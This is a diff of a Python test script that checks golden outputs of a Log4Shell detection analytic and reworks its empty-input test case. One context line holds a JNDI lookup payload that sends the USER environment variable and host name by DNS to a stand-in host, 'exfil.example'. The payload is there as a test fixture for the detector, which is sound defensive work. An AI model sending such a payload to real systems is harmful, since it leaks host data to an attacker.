@@ -67,8 +67,9 @@ check(url[3], "${jndi:dns://${env:USER}.${hostName}.exfil.example}", "dns",
 for r in url[4:]:   # benign, null, $$-escaped, unclosed
     check(r, None, None, None, None, None)
 
-empty = pq.read_table(os.path.join(HERE, "empty-input/expected/output/0.parquet.gz"))
-assert empty.num_rows == 0
-assert set(empty.column_names) >= {"id", "type", "x_log4shell_exploit", "x_log4shell_port",
-                                   "x_log4shell_command"}
+# empty-input: an empty variable (0 rows, 0 columns), which Kestrel never hands an analytic;
+# no golden (the analytic leaves it unchanged)
+assert not os.path.exists(os.path.join(HERE, "empty-input/expected"))
+empty = pq.read_table(os.path.join(HERE, "empty-input/input/0.parquet.gz"))
+assert (empty.num_rows, empty.num_columns) == (0, 0)
 print("log4shell goldens: all values as expected")
